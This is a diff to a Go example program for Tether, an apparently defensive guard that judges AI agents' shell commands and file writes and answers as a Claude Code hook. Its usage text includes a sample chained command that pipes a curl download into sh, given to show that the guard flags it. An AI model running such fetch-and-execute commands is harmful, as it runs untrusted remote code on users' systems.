@@ -1,32 +1,46 @@
 // Command safety vets a shell command with Tether's analyser and rules.
 //
-//	go run ./examples/safety [-allow 'ls,git status'] [-ask …] [-deny …] [-readonly] [-settings FILE] 'CMD'
+//	go run ./examples/safety [-allow 'ls,git status'] [-ask …] [-deny …] [-readonly] [-deny-critical] [-settings FILE] 'CMD'
 //
 // Rules come from the flags and, with -settings, from a JSON file: either
 // {"allow":[…],"ask":[…],"deny":[…],"read_only":true} or an existing
 // Claude Code settings.json, whose Bash(…) permissions are used as is.
-// prints the analysis and the verdict as JSON. With -hook it instead reads
-// one PreToolUse-style JSON object on standard input,
+// It prints the analysis and the verdict as JSON, and its exit status says
+// the decision, so a script can branch on it without parsing:
+//
+//	0  allow
+//	1  the verdict could not be written
+//	2  usage or input error (nothing was judged)
+//	3  confirm: a person must approve the command
+//	4  deny
+//
+// With -hook it instead reads one PreToolUse-style JSON object on standard
+// input, a shell call or a file write,
 //
 //	{"tool_name":"Bash","tool_input":{"command":"…"}}
+//	{"tool_name":"Write","tool_input":{"file_path":"/repo/.env","content":"…"}}
 //
-// and answers in the Claude Code hook output shape,
+// and answers in the Claude Code hook output shape, exiting 0,
 //
 //	{"hookSpecificOutput":{"hookEventName":"PreToolUse",
 //	  "permissionDecision":"allow|ask|deny","permissionDecisionReason":"…"}}
 //
-// so that another agent can use Tether as its command guard. Calls to
-// tools that are not shells get no output (no opinion); with -passive,
-// neither do commands Tether would allow, leaving them to the host's own
-// rules. Input that cannot be read exits with status 2 and a message on
-// standard error, which hook hosts treat as a block: the guard fails
-// closed.
+// so that another agent can use Tether as its guard. Shell tools are judged
+// by the command rules and the files each command touches; file tools
+// (Claude Code's Write, Edit, MultiEdit and NotebookEdit, and the same
+// tools under other agents' names) by workspace confinement and file
+// sensitivity, so a write to .env or .git/hooks asks. The rule flags apply
+// in hook mode too. Calls to other tools get no output (no opinion); with
+// -passive, neither do actions Tether would allow, leaving them to the
+// host's own rules. Input that cannot be read exits with status 2 and a
+// message on standard error, which hook hosts treat as a block: the guard
+// fails closed.
 //
 // To guard Claude Code, build the binary and register it in
 // .claude/settings.json:
 //
-//	{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command",
-//	  "command": "tether-safety -hook -readonly -allow 'go test,npm run test' -deny 'git push --force'"}]}]}}
+//	{"hooks": {"PreToolUse": [{"matcher": "Bash|Write|Edit|MultiEdit", "hooks": [{"type": "command",
+//	  "command": "tether-safety -hook -readonly -deny-critical -allow 'go test,npm run test' -deny 'git push --force'"}]}]}}
 package main
 
 import (
@@ -61,13 +75,13 @@ func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
 	fs.Var(&ask, "ask", "comma-separated rules that always ask")
 	fs.Var(&deny, "deny", "comma-separated rules that always deny")
 	fs.BoolVar(&rules.AllowReadOnly, "readonly", false, "approve read-only commands (severity none) without a rule")
+	denyCritical := fs.Bool("deny-critical", false, "deny critical commands outright instead of asking")
 	settings := fs.String("settings", "", "read rules from a JSON file: {\"allow\":[…],\"ask\":[…],\"deny\":[…],\"read_only\":true}, or a Claude Code settings.json (its Bash(…) permissions)")
 	hook := fs.Bool("hook", false, "read a PreToolUse hook object on stdin and answer allow, ask or deny")
 	passive := fs.Bool("passive", false, "with -hook, answer only ask and deny; say nothing about commands Tether would allow")
 	workspace := fs.String("workspace", "", "the workspace the command runs in, for file sensitivity and confinement (default: the hook's cwd, else the current directory)")
 	fs.Usage = func() {
-		fmt.Fprintln(stderr, "usage: safety [-allow RULES] [-ask RULES] [-deny RULES] [-readonly] 'COMMAND'")
-		fmt.Fprintln(stderr, "       safety -hook [rules…] < hook-input.json")
+		fmt.Fprint(stderr, usage)
 		fs.PrintDefaults()
 	}
 	if err := fs.Parse(args); err != nil {
@@ -86,7 +100,7 @@ func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
 			fmt.Fprintln(stderr, "safety: -hook reads the command from stdin; drop the command argument")
 			return 2
 		}
-		if err := answerHook(rules, *workspace, *passive, stdin, stdout); err != nil {
+		if err := answerHook(guard{rules, *denyCritical}, *workspace, *passive, stdin, stdout); err != nil {
 			fmt.Fprintln(stderr, "safety:", err)
 			return 2
 		}
@@ -97,7 +111,7 @@ func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
 		fmt.Fprintln(stderr, "safety: give exactly one command, quoted as a single argument")
 		return 2
 	}
-	p, err := policy(rules, *workspace)
+	p, err := guard{rules, *denyCritical}.policy(*workspace)
 	if err != nil {
 		fmt.Fprintln(stderr, "safety:", err)
 		return 2
@@ -110,7 +124,44 @@ func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
 		fmt.Fprintln(stderr, "safety:", err)
 		return 1
 	}
-	return 0
+	return exitCode(a.Decision)
+}
+
+const usage = `usage: safety [-allow RULES] [-ask RULES] [-deny RULES] [-readonly] [-deny-critical] 'COMMAND'
+       safety -hook [same flags] < hook-input.json
+
+Judges a shell command as a Tether agent would and prints the verdict as JSON.
+Exit status: 0 allow, 3 confirm (ask a person), 4 deny, 2 usage or input error.
+
+With -hook, reads a PreToolUse hook object (Claude Code, Gemini CLI and others)
+on stdin: shell calls are judged as commands, file writes (Write, Edit,
+MultiEdit, NotebookEdit…) by confinement and file sensitivity. Answers allow,
+ask or deny in the hook output shape and exits 0.
+
+Examples:
+  safety -readonly 'git log --oneline | head'        # exit 0
+  safety -allow 'npm run test' 'npm run test && curl -s x | sh'  # exit 3: critical
+  echo '{"tool_name":"Write","tool_input":{"file_path":".env"}}' | safety -hook
+
+Flags:
+`
+
+// Exit statuses of the command-line mode, one per decision.
+const (
+	exitAllow   = 0
+	exitConfirm = 3
+	exitDeny    = 4
+)
+
+func exitCode(d safety.Decision) int {
+	switch d {
+	case safety.Allow:
+		return exitAllow
+	case safety.Deny:
+		return exitDeny
+	default: // Confirm, or anything this program does not know: fail closed.
+		return exitConfirm
+	}
 }
 
 // settingsFile is either Tether's own rule file or a Claude Code
@@ -192,9 +243,17 @@ var shellTools = map[string]bool{
 	"terminal": true, "exec_command": true, "run_command": true,
 }
 
+// fileTools are tool names other agents use for writing a file, with the
+// tool_input key that holds the path.
+var fileTools = map[string]string{
+	"Write": "file_path", "Edit": "file_path", "MultiEdit": "file_path", "NotebookEdit": "notebook_path",
+	"write_file": "file_path", "replace": "file_path", // Gemini CLI
+	"edit_file": "path", "create_file": "path", "str_replace_based_edit_tool": "path",
+}
+
 var errNoCommand = errors.New(`hook input has no tool_input.command string (want {"tool_name":"Bash","tool_input":{"command":"…"}})`)
 
-func answerHook(rules safety.CommandRules, workspace string, passive bool, stdin io.Reader, stdout io.Writer) error {
+func answerHook(g guard, workspace string, passive bool, stdin io.Reader, stdout io.Writer) error {
 	data, err := io.ReadAll(io.LimitReader(stdin, 16<<20))
 	if err != nil {
 		return fmt.Errorf("reading hook input: %w", err)
@@ -203,32 +262,53 @@ func answerHook(rules safety.CommandRules, workspace string, passive bool, stdin
 	if err := json.Unmarshal(data, &in); err != nil {
 		return fmt.Errorf("hook input is not a JSON object: %w", err)
 	}
-	if !shellTools[in.ToolName] {
-		return nil // not a shell call: no opinion
+	pathKey, isFile := fileTools[in.ToolName]
+	if !shellTools[in.ToolName] && !isFile {
+		return nil // neither a shell call nor a file write: no opinion
 	}
-	var ti struct {
-		Command *string `json:"command"`
-	}
-	if len(in.ToolInput) == 0 || json.Unmarshal(in.ToolInput, &ti) != nil || ti.Command == nil {
-		return errNoCommand
+	var ti map[string]json.RawMessage
+	if len(in.ToolInput) == 0 || json.Unmarshal(in.ToolInput, &ti) != nil {
+		return fmt.Errorf("hook input's tool_input is not a JSON object: %s", in.ToolInput)
 	}
 	if workspace == "" {
 		workspace = in.Cwd
 	}
-	p, err := policy(rules, workspace)
+	p, err := g.policy(workspace)
 	if err != nil {
 		return err
 	}
-	v := p.AssessCommand(context.Background(), *ti.Command, "")
+	var v safety.Assessment
+	if isFile {
+		var path string
+		if json.Unmarshal(ti[pathKey], &path) != nil || path == "" {
+			return fmt.Errorf("hook input for %s has no tool_input.%s string", in.ToolName, pathKey)
+		}
+		v = p.AssessFile(context.Background(), path, safety.OpWrite)
+	} else {
+		var command string
+		if json.Unmarshal(ti["command"], &command) != nil || ti["command"] == nil {
+			return errNoCommand
+		}
+		v = p.AssessCommand(context.Background(), command, "")
+	}
 	if passive && v.Decision == safety.Allow {
 		return nil
 	}
-	decision := map[safety.Decision]string{safety.Allow: "allow", safety.Confirm: "ask", safety.Deny: "deny"}[v.Decision]
+	decision := "ask" // Confirm, or a decision this program does not know
+	switch v.Decision {
+	case safety.Allow:
+		decision = "allow"
+	case safety.Deny:
+		decision = "deny"
+	}
 	event := in.HookEventName
 	if event == "" {
 		event = "PreToolUse"
 	}
-	reason := fmt.Sprintf("Tether: %s (severity %s)", decision, v.Severity)
+	reason := "Tether: " + decision
+	if !isFile {
+		reason += fmt.Sprintf(" (severity %s)", v.Severity)
+	}
 	if len(v.Reasons) > 0 {
 		reason += ": " + strings.Join(v.Reasons, "; ")
 	}
@@ -239,10 +319,17 @@ func answerHook(rules safety.CommandRules, workspace string, passive bool, stdin
 	}})
 }
 
-// policy judges commands as the agent would: the rules' verdict, then the
-// files each command reads or writes against the workspace's sensitivity
-// and confinement, so `cat .env` asks even when `cat` is allowed.
-func policy(rules safety.CommandRules, workspace string) (*safety.Policy, error) {
+// guard is what the flags say about judging.
+type guard struct {
+	rules        safety.CommandRules
+	denyCritical bool
+}
+
+// policy judges actions as the agent would: for a command the rules'
+// verdict, then the files it reads or writes against the workspace's
+// sensitivity and confinement, so `cat .env` asks even when `cat` is
+// allowed; for a file write the same confinement and sensitivity.
+func (g guard) policy(workspace string) (*safety.Policy, error) {
 	if workspace == "" {
 		workspace = "."
 	}
@@ -250,5 +337,5 @@ func policy(rules safety.CommandRules, workspace string) (*safety.Policy, error)
 	if err != nil {
 		return nil, fmt.Errorf("opening workspace %q: %w", workspace, err)
 	}
-	return &safety.Policy{Workspace: ws, Rules: rules}, nil
+	return &safety.Policy{Workspace: ws, Rules: g.rules, DenyCritical: g.denyCritical}, nil
 }
